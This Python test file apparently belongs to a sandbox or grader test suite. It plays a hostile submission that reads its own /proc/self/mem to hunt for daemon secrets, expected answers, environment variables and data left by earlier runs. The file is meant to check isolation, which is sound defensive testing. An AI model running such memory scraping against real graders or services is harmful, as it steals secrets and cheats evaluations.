#| what = "Searches its own memory, forked from the zygote's, for answers, tokens and what ran before"
#| covers = ["answers", "environment", "keys", "other submissions"]
#| verdict = ["accepted"]
#| stages = ["first", "second"]
import re

from attack import end, got, quietly, told

# Written so that no pattern matches itself.
wanted = {
    "a secret of the daemon": rb"LEA[K][0-9a-f]{16}",
    "the answer": rb"containe[d]\n [\t] [\t]",
    "the daemon's variables": rb"SCALEBOX_HOSTILE_SECRE[T]=",
}
if told["stage"] == "second":
    wanted["what the former run was told"] = rb'"stage":"firs[t]"'
else:
    marker = "former" + "-run-" * 3
wanted["a variable of the former run"] = rb"forme[r]-run-run-" if told["stage"] == "second" else rb"$^"
patterns = {what: re.compile(pattern) for what, pattern in wanted.items()}

with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps.readlines():
        place, mode, *_ = line.split()
        start, stop = (int(end_, 16) for end_ in place.split("-"))
        if not mode.startswith("r") or "[v" in line:
            continue
        for at in range(start, stop, 1 << 20):
            memory.seek(at)
            part = quietly(memory.read, min(1 << 20, stop - at)) or b""
            for what, pattern in patterns.items():
                found = pattern.search(part)
                if found:
                    got(what, line.strip(), found.group())
end()
